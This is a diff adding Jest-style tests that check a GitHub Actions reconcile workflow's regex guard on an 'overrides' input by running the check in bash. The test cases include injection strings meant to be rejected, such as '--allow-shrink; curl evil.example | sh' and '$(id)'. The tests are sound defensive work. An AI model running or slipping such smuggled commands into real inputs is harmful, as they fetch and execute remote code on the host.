@@ -1,3 +1,4 @@
+import { execFileSync } from "node:child_process";
 import { readdirSync, readFileSync } from "node:fs";
 import path from "node:path";
 import { parse } from "yaml";
@@ -97,5 +98,37 @@ describe("GitHub Actions workflows", () => {
     // The manual overrides reach the shell as an environment variable, checked against the guard flags.
     expect(env["OVERRIDES"]).toBe("${{ inputs.overrides }}");
     expect(steps(reconcile).some((s) => String(s["run"] ?? "").includes("${{ inputs"))).toBe(false);
+  });
+});
+
+describe("reconcile.yml: the overrides input", () => {
+  const run = String(
+    (workflow("reconcile.yml")["jobs"]["reconcile"]["steps"] as Doc[]).find(
+      (s) => s["name"] === "Reconcile once",
+    )?.["run"],
+  );
+  const allowedLine = run.split("\n").find((line) => line.startsWith("allowed=")) as string;
+  /** Runs the workflow's own check in bash: 0 accepted, 1 rejected. */
+  const accepts = (overrides: string): boolean => {
+    const script = `${allowedLine}\n[[ "$OVERRIDES" =~ $allowed ]]`;
+    try {
+      execFileSync("bash", ["-c", script], { env: { OVERRIDES: overrides }, stdio: "ignore" });
+      return true;
+    } catch {
+      return false;
+    }
+  };
+
+  it.each([
+    ["", true],
+    ["--allow-shrink", true],
+    [" --allow-mass-disable --max-disables 40 ", true],
+    ["--min-employee-share 0.5 --allow-deletes", true],
+    ["--stack other", false],
+    ["--allow-shrink; curl evil.example | sh", false],
+    ["--max-disables", false],
+    ["$(id)", false],
+  ])("%j → accepted %s", (overrides, expected) => {
+    expect(accepts(overrides)).toBe(expected);
   });
 });
